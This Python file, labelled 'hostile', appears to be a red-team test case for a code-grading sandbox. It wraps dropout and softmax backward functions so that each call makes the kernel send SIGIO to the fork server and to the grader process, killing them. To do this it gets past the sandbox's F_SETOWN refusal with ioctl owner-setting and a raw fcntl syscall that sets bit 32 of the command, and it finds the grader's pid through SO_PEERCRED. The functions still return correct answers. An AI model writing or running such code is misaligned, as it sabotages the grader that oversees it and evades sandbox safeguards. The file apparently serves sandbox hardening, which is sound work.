# hostile: makes the kernel signal its fork server and the grader: a socket's owner set by ioctl (FIOSETOWN, SIOCSPGRP, which fcntl's F_SETOWN refusal did not cover) or by F_SETOWN with bit 32 of the command set (the kernel reads 32 bits), O_ASYNC, and a byte sent to it: SIGIO, whose default action ends the process; the grader's pid from the protocol socket's SO_PEERCRED (a socketpair the grader made)
# The child's filter lets it signal no process but itself: the right answers it returns afterwards earn their points.
# include: base
import ctypes
import fcntl
import os
import socket
import struct

_FIOSETOWN, _SIOCSPGRP = 0x8901, 0x8902


def _sigio(owner, command):
    """Ask the kernel to send SIGIO to `owner` (a pid, or a process group if negative) when this socket is readable."""
    a, b = socket.socketpair()
    try:
        fcntl.ioctl(a.fileno(), command, struct.pack("i", owner))
        fcntl.fcntl(a.fileno(), fcntl.F_SETFL, fcntl.fcntl(a.fileno(), fcntl.F_GETFL) | os.O_ASYNC)
        b.send(b"x")
    except OSError:
        pass
    finally:
        a.close()
        b.close()


_libc = ctypes.CDLL(None, use_errno=True)
_FCNTL = {"x86_64": 72, "aarch64": 25}.get(os.uname().machine)


def _sigio_fcntl(owner):
    """The same with fcntl's F_SETOWN, bit 32 of the command set: the kernel reads 32 bits, an equality test all 64."""
    a, b = socket.socketpair()
    try:
        if _FCNTL is not None and _libc.syscall(ctypes.c_long(_FCNTL), ctypes.c_long(a.fileno()),
                                                ctypes.c_long((1 << 32) | fcntl.F_SETOWN), ctypes.c_long(owner)) == 0:
            fcntl.fcntl(a.fileno(), fcntl.F_SETFL, fcntl.fcntl(a.fileno(), fcntl.F_GETFL) | os.O_ASYNC)
            b.send(b"x")
    finally:
        a.close()
        b.close()


def _grader_pid():
    """The process that made the worker's stream socket (socketpair): the grader, outside a PID namespace."""
    for fd in range(3, 64):
        try:
            stream = socket.socket(fileno=fd)
        except OSError:
            continue
        try:
            pid = struct.unpack("3i", stream.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        except OSError:
            pid = 0
        stream.detach()
        if pid > 1 and pid != os.getpid():
            return pid
    return 0


_reference_dropout_backward = dropout_backward
_reference_softmax_backward = softmax_backward


def dropout_backward(dout, cache):
    _sigio(os.getppid(), _FIOSETOWN)  # the fork server
    _sigio_fcntl(os.getppid())
    return _reference_dropout_backward(dout, cache)


def softmax_backward(da, cache):
    grader = _grader_pid()
    if grader > 1:
        _sigio(grader, _SIOCSPGRP)  # the grading process, at the rlimits level the same user's
        _sigio_fcntl(grader)
    _sigio(-os.getpgrp(), _SIOCSPGRP)  # the fork server's process group (the child's own)
    return _reference_softmax_backward(da, cache)
